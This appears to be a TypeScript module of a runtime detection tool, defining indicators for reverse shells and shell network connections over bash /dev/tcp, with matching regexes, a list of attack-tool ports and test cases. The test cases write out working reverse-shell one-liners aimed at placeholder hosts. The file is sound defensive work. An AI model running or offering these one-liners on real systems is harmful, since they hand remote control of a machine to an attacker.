import type { Facts } from "#alert/facts.ts";
import { isInside } from "#alert/network.ts";
import type { Indicator } from "../../indicator.ts";
import { quoteOfNeedle } from "./calls.ts";
import { connected, inContainer, onHost, ran } from "./examples.ts";
import { gated } from "./needles.ts";
import { shells } from "./programs.ts";

/** Shells that hold a network connection themselves. */

/** A shell that reads from the network and answers to it; a mere `> /dev/tcp/db/5432` or a request over `exec 3<>` is none. */
const bothWays =
  /(?:>&|&>)\s?\/dev\/(?:tcp|udp)\/|0[<>]&1|(?:^|[\s/])(?:ba|z|da|a|k|)sh -[a-z]{0,3}i|sh(?: -\w{1,4})? ?<&\d|\$\{?\w{1,20}\}? 2?>&\d|<&\d{1,3} {0,3}\| {0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a|k|)sh(?:[\s;&]|$)|read (?:-r )?\w{1,20}[^|]{0,60}(?:eval|sh -c)/;

const presetPorts = new Set([1234, 1337, 4444, 4445, 5555, 6666, 9001, 31337]);

export const reverseShellDevTcp: Indicator = {
  id: "reverse-shell-dev-tcp",
  behaviour: "connects a shell to another host through bash's /dev/tcp",
  meaning: "Somebody at the other end types commands here, without any program that would have to be installed.",
  technique: "T1059.004",
  tactic: "execution",
  alsoTechniques: ["T1095"],
  severity: "critical",
  certainty: "certain",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "k8s_audit", "plugin"],
  source: "https://attack.mitre.org/techniques/T1059/004/",
  match: gated(["/dev/tcp/", "/dev/udp/"], (facts) => {
    const piece = quoteOfNeedle(facts, ["/dev/tcp/", "/dev/udp/"]);
    return piece !== null && isTwoWay(facts) ? piece : null;
  }),
  examples: {
    found: [
      ran("bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", inContainer),
      ran("bash -c exec 5<>/dev/tcp/203.0.113.7/4;cat <&5|sh"),
      ran("bash -c exec 5<>/dev/tcp/198.51.100.3/443; cat <&5 | while read l; do $l 2>&5 >&5; done"),
      ran("sh -i", { "proc.pcmdline": "bash -c 0<&196;exec 196<>/dev/tcp/203.0.113.7/9001; sh <&196 >&196 2>&196" }),
    ],
    ignored: [
      ran("bash -c timeout 1 bash -c '</dev/tcp/10.0.0.5/5432'"),
      ran(
        "bash -c exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET /health/ready HTTP/1.1\\r\\n' >&3; cat <&3 | grep 200 || echo down >&2",
      ),
      ran("bash -c until printf '' 2>/dev/null >/dev/tcp/db/5432; do sleep 1; done"),
      ran("cat /usr/share/doc/bash/dev-tcp.txt"),
    ],
  },
};

export const probesPortDevTcp: Indicator = {
  id: "probes-port-dev-tcp",
  behaviour: "opens a network connection from the shell itself (/dev/tcp)",
  meaning: "It tries ports or fetches data without any network tool, which slips past rules about tools.",
  technique: "T1046",
  tactic: "discovery",
  alsoTechniques: ["T1105", "T1059.004"],
  severity: "medium",
  certainty: "weak",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "plugin"],
  source: "https://www.gnu.org/software/bash/manual/html_node/Redirections.html",
  match: gated(["/dev/tcp/", "/dev/udp/"], (facts) =>
    isTwoWay(facts) ? null : quoteOfNeedle(facts, ["/dev/tcp/", "/dev/udp/"]),
  ),
  examples: {
    found: [ran("bash -c timeout 1 bash -c '</dev/tcp/10.0.0.5/5432'"), ran("bash -c echo x > /dev/tcp/10.0.0.9/80")],
    ignored: [ran("bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), ran("ls /dev/tty1")],
  },
};

export const stdioRedirectedToSocket: Indicator = {
  id: "stdio-redirected-to-socket",
  behaviour: "turns its standard input and output to a network connection",
  meaning: "This is what makes a reverse or bind shell: what the other end sends is read as commands.",
  technique: "T1059.004",
  tactic: "execution",
  alsoTechniques: ["T1095"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://github.com/falcosecurity/rules/blob/main/rules/falco_rules.yaml",
  needs: "connection",
  match: (facts) => {
    if (facts.connection === null || !(facts.eventType?.startsWith("dup") ?? false)) return null;
    return facts.field("fd.name") ?? facts.field("fd.sip") ?? facts.eventType;
  },
  examples: {
    found: [
      connected("172.17.0.4:40112->203.0.113.7:4444", "bash", { "evt.type": "dup2", ...inContainer }),
      connected("172.17.0.4:40112->203.0.113.7:9001", "python3 app.py", { "evt.type": "dup3", ...inContainer }),
    ],
    ignored: [
      connected("172.17.0.4:40112->203.0.113.7:443", "curl https://example.com", inContainer),
      { "evt.type": "dup2", "fd.name": "/dev/null", "proc.cmdline": "sh -c true", "proc.name": "sh" },
    ],
  },
};

export const shellHasNetworkConnection: Indicator = {
  id: "shell-has-network-connection",
  behaviour: "is a shell and has a network connection of its own",
  meaning: "Shells do not talk over the network by themselves; one that does is mostly driven from the other end.",
  technique: "T1059.004",
  tactic: "execution",
  alsoTechniques: ["T1095"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://attack.mitre.org/techniques/T1059/004/",
  needs: "connection",
  match: (facts) => {
    const { connection, process } = facts;
    if (connection === null || process.name === null || !shells.has(process.name)) return null;
    // Inside the site, scripts wait for databases in this way; preset ports of attack tools are none of these.
    const isNear = connection.remoteClass === null || isInside(connection.remoteClass);
    if (connection.remotePort === 53 || (isNear && !presetPorts.has(connection.remotePort ?? 0))) return null;
    return facts.field("fd.name") ?? process.name;
  },
  examples: {
    found: [
      connected("10.0.0.4:40112->203.0.113.7:4444", "bash -i", onHost),
      connected("172.17.0.4:51000->198.51.100.9:443", "sh", inContainer),
    ],
    ignored: [
      connected("10.0.0.4:40112->10.0.0.2:53", "bash", { "fd.l4proto": "udp" }),
      connected("10.0.0.4:40112->203.0.113.7:443", "wget https://example.com"),
    ],
  },
};

function isTwoWay(facts: Facts): boolean {
  const lines = [
    facts.process.command.text,
    facts.parent.command.text,
    facts.kubernetes.command ?? "",
    facts.field("args") ?? "",
  ];
  return lines.some((text) => /\/dev\/(?:tcp|udp)\//.test(text) && bothWays.test(text.slice(0, 4096)));
}
